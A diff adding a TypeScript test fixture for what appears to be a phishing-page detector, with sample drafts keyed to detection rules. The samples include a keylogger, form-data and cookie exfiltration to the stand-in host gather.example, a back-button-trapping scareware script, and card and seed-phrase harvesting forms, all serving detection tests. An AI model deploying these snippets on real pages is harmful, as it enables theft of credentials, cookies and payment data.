@@ -1,0 +1,109 @@
+import type { GivenDraft } from "./given-draft.ts"
+import { site } from "./innocent-site.ts"
+import { sentByScript } from "./rule-cases.ts"
+
+const ours = "Ferry tickets to Skerry"
+const heading = `<h1>${ours}</h1>`
+const elsewhere = "https://gather.example/"
+const password = `<input type="password" name="p">`
+const form = (fields: string, action = elsewhere) => `<form action="${action}" method="post">${fields}</form>`
+const script = (code: string) => `<script>${code}</script>`
+const card = `<input name="cardnumber"><input name="cvv">`
+const sends = `fetch("${elsewhere}",{method:"POST",body:new FormData(f)})`
+const holds = script(
+  `onclick=()=>document.body.requestFullscreen();history.pushState(0,"");onpopstate=()=>history.pushState(0,"")`,
+)
+const iban = "DE02 1203 0000 0000 2020 51"
+const late = `<p>Your account will be closed today. Pay to ${iban}</p>`
+
+const leaves = site("leaves by a form", ours, `${heading}${form(password)}`)
+const keys = site(
+  "notes each key",
+  ours,
+  `${heading}<form action="/in">${password}</form>${script(`var t="";onkeydown=(e)=>{t+=e.key;fetch("${elsewhere}",{method:"POST",body:t}).then((r)=>r.json())}`)}`,
+)
+const copied = site("was saved", ours, `<!-- saved from url=(0024)https://moss.example/in -->${heading}${form(card)}`)
+const picture = site(
+  "lies on a picture",
+  ours,
+  `<h1>${ours}</h1><img src="a.svg"><style>input{position:absolute;top:9px}</style>${sentByScript(elsewhere, password)}`,
+)
+const counted = site(
+  "counts words",
+  ours,
+  `${heading}${sentByScript(elsewhere, `<textarea name="t" placeholder="Wpisz 12 słów"></textarea>`)}`,
+)
+const pastes = site(
+  "has a script pasted",
+  ours,
+  `${heading}<p>Press F12 and paste:</p><pre>fetch("${elsewhere}"+document.cookie)</pre>`,
+)
+const held = site("holds its visitor", "Alert", `<h1>Stop</h1><p>Call 0800 555 0188</p>${holds}`)
+const aims = site(
+  "aims at an address of a list",
+  ours,
+  `${heading}<div id="r"></div>${script(`const c={to:"${elsewhere}"};r.innerHTML='<form id="f">${password}</form>';fetch(c.to,{method:"POST",body:new FormData(f)})`)}`,
+)
+const still = site("has a form without an action", "PayPal: Log in", `<form>${password}</form>`)
+const given = site(
+  "gives beside its form",
+  ours,
+  `${heading}<form id="f" action="/in">${password}</form>${script(`f.onsubmit=()=>{${sends}}`)}`,
+)
+
+/** A rule about what is taken and in whose name, and a draft that is flagged and is not without it. */
+export const takingCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]> = [
+  ["form-takes-secret", leaves],
+  [
+    "form-takes-card",
+    site("card and frame", ours, `${heading}${form(card, `${elsewhere}pay.php`)}<iframe hidden src="a.html"></iframe>`),
+  ],
+  ["answer-unread", given],
+  ["takes-without-name", site("of no name", "Members", `<h1>Sign in</h1>${form(card)}`)],
+  [
+    "leaves-for-company",
+    site(
+      "goes to a company",
+      ours,
+      `${heading}<form id="f">${password}</form>${script(`${sends}.then((r)=>r.json()).then(()=>{location="https://www.paypal.com/"})`)}`,
+    ),
+  ],
+  ["keys-to-other-site", keys],
+  ["copied-page", copied],
+  ["fields-on-a-picture", picture],
+  ["counted-words", counted],
+  ["institution-asks", site("is called after a house", "Skerry Bank", `<h1>Skerry Bank</h1>${form(card)}`)],
+  ["account-under-name", site("an account under a name", "PayPal", late)],
+  ["presses-to-pay-under-name", site("presses to pay under a name", "PayPal", late)],
+  ["script-to-paste", pastes],
+  ["holds-for-call", held],
+  ["holds-without-name", held],
+  [
+    "small-sum-by-card",
+    site(
+      "a small sum and a frame",
+      "Ferry",
+      `<h1>Pay 1.99 €</h1>${form(card, "/pay")}<iframe hidden src="a.html"></iframe>`,
+    ),
+  ],
+  [
+    "words-by-number",
+    site("a box for many words", "Trezor", `<h1>24</h1><form action="/a"><textarea></textarea></form>`),
+  ],
+  ["role-asks", site("is called after a role", "Webmail", `<h1>Webmail</h1>${sentByScript(elsewhere, password)}`)],
+]
+
+/** Kind of mark → a draft that is not flagged without it. */
+export const takingMarks: ReadonlyArray<readonly [kind: string, draft: GivenDraft]> = [
+  ["form", leaves],
+  ["reaches", still],
+  ["logs-keys", keys],
+  ["copied", copied],
+  ["placed", picture],
+  ["counted", counted],
+  ["theft", pastes],
+  ["holds", held],
+  ["aims", aims],
+  ["reads", aims],
+  ["given", given],
+]
